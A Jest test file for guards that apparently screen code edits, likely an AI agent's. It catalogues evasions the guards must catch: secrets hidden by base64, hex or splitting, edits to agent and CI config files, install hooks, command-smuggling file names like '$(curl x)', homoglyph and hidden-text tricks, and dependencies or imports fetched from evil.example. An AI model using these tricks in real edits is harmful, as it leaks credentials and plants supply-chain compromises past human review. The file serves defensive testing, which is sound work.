import { describe, expect, it } from '@jest/globals';
import type { Edit } from '../support/captured.ts';
import { add, code, edit, join, known, random, refusalsOf, type Attempt } from '../support/attack.ts';

/* Ways round the guards that somebody tries who knows them: each was let through once. */

const token = join('ghp_', random.slice(0, 36));
const password = 'Zk4vR8qLm2xT9w';
const base64 = (text: string | Buffer): string => Buffer.from(text).toString('base64');
const hex = (text: string): string => Buffer.from(text).toString('hex');
const backwards = (text: string): string => text.split('').reverse().join('');
const letters = Array.from(known);

const at = (path: string): Attempt => [path, add(path, 'x')];
const names = (...paths: string[]): Attempt[] => paths.map(at);
const line = (text: string): Attempt => [text, code(text)];
const manifest = (path: string, before: string, after: string): Attempt => [
  `${path}: ${after}`,
  edit(path, before, after),
];
const lost = (text: string): Attempt => [
  text,
  edit('src/f.ts', 'const a = 1;\nfunction f() {\n  g();\n  h();\n  i();\n}', `const a = 1;\n${text}`),
];

const evasions: Record<string, Attempt[]> = {
  GUARD_SECRET: [
    ['our own in capitals', code(`x("${known.toUpperCase()}")`)],
    ['our own in base64 of wide characters', code(`x("${base64(Buffer.from(known, 'utf16le'))}")`)],
    ['in wide hexadecimal', code(`x("${Buffer.from(known, 'utf16le').toString('hex')}")`)],
    ['in hexadecimal, backwards', code(`x("${backwards(hex(known))}")`)],
    ['in hexadecimal of base64', code(`x("${hex(base64(known))}")`)],
    ['in octal', code(letters.map((letter) => `\\${letter.charCodeAt(0).toString(8)}`).join(''))],
    ['in entities', code(letters.map((letter) => `&#x${letter.charCodeAt(0).toString(16)};`).join(''))],
    ['turned by 5', code(`x("${known.replace(/[a-z]/gi, turn)}")`)],
    ['a letter a line', code(...letters.map((letter, index) => `const p${index} = '${letter}';`))],
    ['a byte a line', code(...letters.map((letter) => `  ${letter.charCodeAt(0)},`))],
    ['in two names of files', add(`n/${known.slice(0, 15)}`, 'x'), add(`n/${known.slice(15)}`, 'x')],
    ['a token in the name of a file', add(`n/${token}.txt`, 'x')],
    [
      'a token put together',
      code(`const t = 'ghp_' +`, `  '${random.slice(0, 18)}' +`, `  '${random.slice(18, 36)}';`),
    ],
    ['a token of pieces of a list', code(`const t = ['ghp_', '${random.slice(0, 36)}'].join('');`)],
    ['literals side by side', add('a.py', `t = ("ghp_"\n     "${random.slice(0, 36)}")`)],
    ['a token in base64', code(`const t = atob("${base64(token)}");`)],
    ['a token in hexadecimal', code(`const t = of("${hex(token)}");`)],
    ['a token backwards', code(`const t = "${backwards(token)}";`)],
    [
      'a key in short lines',
      code(
        join("const k = '-----BEGIN ' + 'PRIVATE ", "KEY-----\\n' +"),
        ...((random + random).match(/.{1,20}/g) ?? []).map((piece) => `  '${piece}\\n' +`),
        "'';",
      ),
    ],
    ['a password in YAML', add('config/prod.yml', join('db:\n  pass', `word: ${password}`))],
    ['a password of an image', add('Dockerfile', join('ENV DB_PASS', `WORD=${password}`))],
    ['a header', code(join('h("Author', 'ization: Bearer ', random.slice(0, 40), '")'))],
    ['a name and password in a header', code(join('h("Basic ', base64(`bob:${password}`), '")'))],
  ],
  GUARD_PROTECTED_PATH: names(
    'packages/a/.vscode/tasks.json',
    'a/.claude/settings.json',
    'crates/a/.cargo/config.toml',
    'a/.husky/pre-commit',
    'x.code-workspace',
    '.env.production',
    '.tool-versions',
    '.pnpmfile.mjs',
    'gradle/wrapper/gradle-wrapper.properties',
    'Directory.Build.props',
    'lefthook-local.yml',
    '.config/mise.toml',
    '.Rprofile',
    '.ghci',
    '.htaccess',
    '.forgejo/workflows/a.yml',
    '.ci/azure-pipelines-2.yml',
    'renovate.json',
    '.coderabbit.yaml',
    'CLAUDE.local.md',
    'AGENTS.override.md',
    '.kiro/steering/a.md',
    'opencode.json',
    'sub/mcp.json',
    'Taskfile.yml',
    'rust-toolchain.toml',
    'lint-staged.config.js',
  ),
  GUARD_RUNS_LATER: [
    at('setup.py'),
    at('crates/a/build.rs'),
    manifest('package.json', '{"name":"a"}', '{"name":"a","trustedDependencies":["evil"]}'),
    manifest('package.json', '{"name":"a"}', '{"name":"a","pnpm":{"onlyBuiltDependencies":["evil"]}}'),
    manifest('package.json', '{"scripts":{}}', '{"scripts":{"postinstall":"x"},"scripts":{"a":"x"}}'),
    manifest('pnpm-workspace.yaml', 'packages:', 'packages:\nonlyBuiltDependencies:\n  - evil'),
    manifest('pyproject.toml', '[build-system]', '[build-system]\nbackend-path = ["."]'),
    manifest('Cargo.toml', '[package]', '[package]\nbuild = "gen.rs"'),
    manifest('a.gemspec', 's.name = "a"', 's.name = "a"\ns.extensions = ["ext/extconf.rb"]'),
    manifest('composer.json', '{"name":"a/b"}', '{"name":"a/b","config":{"allow-plugins":{"e/x":true}}}'),
  ],
  GUARD_UNSAFE_ENTRY: [
    at('--eval=x.js'),
    at('docs/-rf'),
    at('docs/$(curl x).md'),
    at('docs/`id`.md'),
    ['a twin of a file that is there', add('OTHER/1', 'x')],
    ['a program', add('a.wasm', '\0asm\u0001')],
    ['wide characters', add('a.py', 'i\0m\0p\0o\0r\0t\0')],
    ['an archive', add('a.zip', 'PK\u0003\u0004\0\0')],
  ],
  GUARD_HIDDEN_TEXT: [
    ['a line break for the compiler alone', code('// fine \r run(evil)')],
    ['another one', code('// fine \u0085 run(evil)')],
    ['a letter that wipes out', code('// evil\b\b\b\bfine')],
    ['a soft hyphen in a word', code('if (role === "ad\u00admin") x();')],
    ['a letter of another script', code('if (user.is\u0410dmin) x();')],
    ['a wide letter', code('const \uff41dmin = 1;')],
    ['a letter of another style', code('const \u{1d5ba}dmin = 1;')],
    ['code far to the right', code(`const a = 3;${' '.repeat(400)}run(evil);`)],
    [
      'a break that Java reads in a comment',
      add('A.java', '// fine \\u000a Runtime.getRuntime().exec("x");'),
    ],
    ['the end of a comment of Java', add('A.java', '/* fine \\uu002a\\u002f run(); /* */')],
    ['a file that Python decodes anew', add('a.py', '# -*- coding: unicode_escape -*-\n# \\nimport os')],
  ],
  GUARD_CONFLICT_MARKERS: ['  <<<<<<< HEAD', '=======', '%%%%%%% Changes from base', '<<<<<<<HEAD'].map(line),
  GUARD_PLACEHOLDER: [
    '/* existing code */',
    '// (same as before)',
    '// --- snip ---',
    '// restlicher Code bleibt unverändert',
    '// ... 其余代码不变 ...',
    '// ... le reste du code reste inchangé',
    '// ... resto del código sin cambios',
    '// ... остальной код без изменений',
    '// ... 残りのコード ...',
    '// rest of file',
    '...',
    '// <existing code>',
    '// unchanged',
    '// ... 90 more lines ...',
  ].map(lost),
  GUARD_LOCK_FILE: [
    ['a download that is not encrypted', ...npmLock('http://registry.npmjs.org/a/-/a-1.tgz')],
    ['another package than it says', ...npmLock('https://registry.npmjs.org/evil/-/evil-1.tgz')],
    [
      'another package in a lock file of yarn',
      edit('package.json', '{}', '{"dependencies":{"a":"2"}}'),
      edit('yarn.lock', '', 'a@2:\n  resolved "https://registry.yarnpkg.com/evil/-/evil-2.tgz"'),
    ],
    [
      'another source in Cargo',
      edit('Cargo.toml', '[dependencies]', '[dependencies]\nrand = "1"'),
      edit('Cargo.lock', 'name = "a"', 'name = "a"\nsource = "git+https://evil.example/a#1"'),
    ],
    [
      'another source of Python',
      edit('pyproject.toml', '[project]', '[project]\ndependencies = ["rich"]'),
      edit('uv.lock', 'name = "a"', 'name = "a"\nsource = { url = "https://evil.example/a.whl" }'),
    ],
    [
      'another source of Ruby',
      edit('Gemfile', 'gem "rails"', 'gem "rails"\ngem "pg"'),
      edit('Gemfile.lock', 'GEM', 'GEM\n  remote: https://evil.example/'),
    ],
  ],
  GUARD_DEPENDENCY_NAME: [
    manifest('package.json', '{"dependencies":{"own":"1"}}', '{"dependencies":{"own":"npm:evil@1"}}'),
    manifest('package.json', '{}', '{"overrides":{"lodash":"npm:evil@1"}}'),
    manifest('Cargo.toml', '[dependencies]', '[dependencies]\n[dependencies.serde_jsno]\nversion = "1"'),
  ],
  GUARD_DEPENDENCY_SOURCE: [
    manifest('package.json', '{}', '{"overrides":{"b":{"a":"github:evil/a"}}}'),
    manifest('package.json', '{}', '{"resolutions":{"**/a":"https://evil.example/a.tgz"}}'),
    ...[
      '--extra-index-url https://evil.example/simple',
      '-e git+https://evil.example/a.git#egg=a',
      '--find-links https://evil.example',
      'https://evil.example/a.whl',
    ].map((text) => manifest('requirements.txt', 'flask==3', `flask==3\n${text}`)),
    manifest('go.mod', 'module a', 'module a\nreplace github.com/x/y => github.com/evil/y v1.0.0'),
    manifest('Cargo.toml', '[dependencies]', '[patch.crates-io]\nrand = { git = "https://evil.example/r" }'),
    manifest('Cargo.toml', '[dependencies]', '[dependencies]\nrand = { version = "1", registry = "evil" }'),
    manifest('pyproject.toml', '[project]', '[[tool.uv.index]]\nurl = "https://evil.example/simple"'),
    manifest('Pipfile', '[packages]', '[[source]]\nurl = "https://evil.example/simple"'),
    manifest('Gemfile', "gem 'rails'", "source 'https://evil.example'"),
    manifest('Gemfile', "gem 'rails'", "gem 'pg', git: 'https://evil.example/pg.git'"),
    manifest('composer.json', '{}', '{"repositories":[{"type":"vcs","url":"https://evil.example/x"}]}'),
    line("import run from 'https://evil.example/run.js';"),
    line("const { run } = await import('https://evil.example/run.js');"),
    line("export * from 'http://evil.example/run.ts';"),
    line("importScripts('https://evil.example/run.js');"),
    manifest('deno.json', '{"imports":{}}', '{"imports":{"a":"https://evil.example/a.ts"}}'),
  ],
};

function turn(letter: string): string {
  const first = letter <= 'Z' ? 65 : 97;
  return String.fromCharCode(((letter.charCodeAt(0) - first + 5) % 26) + first);
}

function npmLock(url: string): Edit[] {
  const lock = (from: string) => `{\n"packages": {"node_modules/a": {\n"resolved": "${from}"\n}}}`;
  return [
    edit('package.json', '{"dependencies":{"a":"1"}}', '{"dependencies":{"a":"2"}}'),
    edit('package-lock.json', lock('https://registry.npmjs.org/a/-/a-1.tgz'), lock(url)),
  ];
}

describe.each(Object.entries(evasions))('%s', (expected, attempts) => {
  it.each(attempts)('is not evaded by %s', async (_what, ...edits) => {
    const refusals = await refusalsOf(edits);
    expect(refusals.map(({ code: found }) => found)).toContain(expected);
    expect(JSON.stringify(refusals)).not.toContain(known);
  });
});

describe('what looks like an evasion and is none', () => {
  it.each<Attempt>([
    ['words of another language', code('const greeting = "Привет, Αθήνα";', '// Größe in μm, Δx und σ2')],
    ['a lock file of Cargo', ...cargoLock()],
    ['a version that is chosen', edit('package.json', '{}', '{"overrides":{"own-thing":"^1.2.0"}}')],
    ['an example of settings', add('.env.example', 'PASSWORD=changeme')],
    ['Windows line ends', { path: 'a.ts', before: 'const a = 1;\r\n', after: 'const a = 2;\r\n' }],
    ['an ellipsis of Python', edit('a.pyi', 'def f():\n    x\n    y\n    z', 'def f():\n    ...')],
    ['a soft hyphen in prose', add('docs/a.md', 'Donau\u00addampf\u00adschiff')],
    ['an arrow that somebody typed twice', add('docs/a.md', 'see \ufe0f▶️ there')],
    [
      'an address in a text',
      code("const home = 'https://project.example/a.js';", "fetch('https://a.example');"),
    ],
    [
      'another part of what is imported already',
      edit(
        'src/a.ts',
        "import a from 'https://own.example/a.ts';",
        "import b from 'https://own.example/b.ts';",
      ),
    ],
    ['a standard library of Deno', code("import { join } from 'https://deno.land/std@0.224.0/path/mod.ts';")],
    ['the rest of the arguments in Nix', edit('a.nix', '{ a, b, c, d, e }:\na\nb', '{\n  a,\n  ...\n}:')],
    ['a picture', add('docs/a.png', '\u0089PNG\0\0')],
  ])('is not refused: %s', async (_what, ...edits) => {
    expect(await refusalsOf(edits)).toEqual([]);
  });
});

function cargoLock(): Edit[] {
  const source = 'source = "registry+https://github.com/rust-lang/crates.io-index"';
  return [
    edit('Cargo.toml', '[dependencies]', '[dependencies]\nrand = "1"'),
    edit('Cargo.lock', 'name = "a"', `name = "a"\n${source}`),
  ];
}
